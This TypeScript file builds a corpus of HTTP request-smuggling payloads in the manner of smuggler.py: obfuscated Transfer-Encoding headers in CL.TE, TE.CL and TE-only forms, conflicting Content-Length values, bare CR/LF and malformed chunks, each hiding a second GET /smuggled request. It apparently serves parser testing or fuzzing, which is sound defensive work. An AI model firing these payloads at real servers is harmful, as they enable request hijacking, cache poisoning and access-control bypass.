// A request-smuggling corpus in the manner of smuggler.py: Transfer-Encoding spelled every way
// a front end and a back end might disagree about, in CL.TE and TE.CL shapes, plus bare CR/LF
// line ends, obs-fold and duplicated framing headers. Every case carries a second request,
// GET /smuggled, placed where one of the two readings of the framing would take it for a
// request of its own.

export interface SmuggleCase {
  readonly name: string;
  readonly bytes: string;
}

const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: a.test\r\n\r\n';

/** Ways to write "Transfer-Encoding: chunked" that some parser might still take for it. */
const TE_SPELLINGS: readonly string[] = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: \tchunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked,chunked',
  'Transfer-Encoding: x, chunked',
  'Transfer-Encoding: cHuNkEd',
  'TRANSFER-ENCODING: chunked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'X: y\r\n Transfer-Encoding: chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r',
  'Transfer-Encoding\r\n: chunked',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: chu\x00nked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding:\x85chunked',
  'Transfer-Encoding: chunk',
  'Foo: bar\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\nFoo: bar',
];

function head(lines: string): string {
  return `POST /api HTTP/1.1\r\nHost: a.test\r\n${lines}\r\n\r\n`;
}

export function smugglingCorpus(): SmuggleCase[] {
  const cases: SmuggleCase[] = [];
  for (const te of TE_SPELLINGS) {
    const label = JSON.stringify(te);
    // CL.TE: read by Content-Length the smuggled request is body; read by chunks it is a request.
    cases.push({ name: `CL.TE ${label}`, bytes: `${head(`Content-Length: ${5 + SMUGGLED.length}\r\n${te}`)}0\r\n\r\n${SMUGGLED}` });
    // TE.CL: a front end reading chunks forwards it as body, a back end reading Content-Length does not.
    const chunk = `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`;
    cases.push({ name: `TE.CL ${label}`, bytes: `${head(`${te}\r\nContent-Length: 4`)}${chunk}` });
    // TE alone: read by chunks the smuggled request is body.
    cases.push({ name: `TE ${label}`, bytes: `${head(te)}${chunk}` });
  }
  cases.push(
    { name: 'two Content-Length, different', bytes: `${head('Content-Length: 0\r\nContent-Length: 41')}${SMUGGLED}` },
    { name: 'Content-Length with a sign', bytes: `${head('Content-Length: +41')}${SMUGGLED}` },
    { name: 'Content-Length list', bytes: `${head('Content-Length: 0, 41')}${SMUGGLED}` },
    { name: 'Content-Length in hex', bytes: `${head('Content-Length: 0x29')}${SMUGGLED}` },
    { name: 'obs-fold of Content-Length', bytes: `${head('Content-Length: 0\r\n 41')}${SMUGGLED}` },
    { name: 'bare CR line ends', bytes: `POST /api HTTP/1.1\rHost: a.test\rContent-Length: 41\r\r${SMUGGLED}` },
    { name: 'bare CR inside a header value', bytes: `${head('X: a\rContent-Length: 41')}${SMUGGLED}` },
    { name: 'bare LF inside a header value', bytes: `${head('X: a\nContent-Length: 41')}${SMUGGLED}` },
    { name: 'chunk size with junk', bytes: `${head('Transfer-Encoding: chunked')}0;\x00\r\n\r\n${SMUGGLED}` },
    { name: 'chunk size overflow', bytes: `${head('Transfer-Encoding: chunked')}10000000000000000\r\n${SMUGGLED}\r\n0\r\n\r\n` },
    { name: 'chunk with a bare LF', bytes: `${head('Transfer-Encoding: chunked')}0\n\n${SMUGGLED}` },
    { name: 'chunk extension with a bare CR', bytes: `${head('Transfer-Encoding: chunked')}0;a\rb\r\n\r\n${SMUGGLED}` },
    { name: 'GET with a chunked body', bytes: `GET /api HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n` },
    { name: 'HTTP/1.0 with Transfer-Encoding', bytes: `POST /api HTTP/1.0\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n${SMUGGLED}` },
  );
  return cases;
}
